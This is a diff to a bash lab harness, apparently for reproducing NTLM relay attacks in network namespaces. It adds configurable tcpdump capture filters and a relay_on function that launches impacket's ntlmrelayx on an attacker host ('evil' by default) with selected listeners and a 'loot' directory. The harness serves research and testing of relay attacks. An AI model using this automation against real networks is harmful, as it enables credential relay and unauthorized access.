@@ -5,14 +5,15 @@ TCPDUMP=       # process ids of what the scenario started
 LISTENER=
 HELPER=
 
-# record NAME: start the capture
+# record NAME [FILTER...]: start the capture, without ARP unless a filter says otherwise
 record() {
-  NAME=$1
+  NAME=$1; shift
+  [ $# -gt 0 ] || set -- tcp or udp or icmp6
   echo "== $NAME"
   date +%s.%N > "$RUN/started"
   : > "$RUN/relay.log"
   # Without immediate mode the kernel hands over blocks, and the last second would be missing.
-  ip netns exec $SWITCH tcpdump -i $SPAN -s0 -U --immediate-mode -B 16384 -Z root -w "$RUN/$NAME.pcap" tcp or udp or icmp6 \
+  ip netns exec $SWITCH tcpdump -i $SPAN -s0 -U --immediate-mode -B 16384 -Z root -w "$RUN/$NAME.pcap" "$@" \
     > "$RUN/tcpdump.log" 2>&1 &
   TCPDUMP=$!
   local _
@@ -50,16 +51,23 @@ listen() {
   wait_for_port "$1" 445
 }
 
-# relay ARGUMENTS...: ntlmrelayx on the attacker's host
-relay() {
+# relay ARGUMENTS...: ntlmrelayx on the attacker's host (or on RELAY_HOST), listening on SMB and HTTP
+relay() { relay_on 'smb http' "$@"; }
+
+# relay_on LISTENERS ARGUMENTS...: the same with these listeners and no others
+relay_on() {
+  local listeners=" $1 " off=() kind
+  shift
+  for kind in smb http wcf raw rpc winrm mssql rdp; do
+    [[ $listeners == *" $kind "* ]] || off+=("--no-$kind-server")
+  done
   mkdir -p "$RUN/loot"
   # It reads commands from stdin and stops at its end; a pipe open in both directions never ends.
   [ -p "$RUN/stdin" ] || mkfifo "$RUN/stdin"
   (
     cd "$RUN/loot"
-    exec "$HERE/in_host" evil "$IMPACKET/python" -u "$IMPACKET/ntlmrelayx.py" -debug -smb2support \
-      --no-wcf-server --no-raw-server --no-rpc-server --no-winrm-server --no-mssql-server --no-rdp-server \
-      "$@"
+    exec "$HERE/in_host" "${RELAY_HOST:-evil}" "$IMPACKET/python" -u "$IMPACKET/ntlmrelayx.py" -debug -smb2support \
+      "${off[@]}" "$@"
   ) <> "$RUN/stdin" > "$RUN/relay.log" 2>&1 &
   LISTENER=$!
   local _
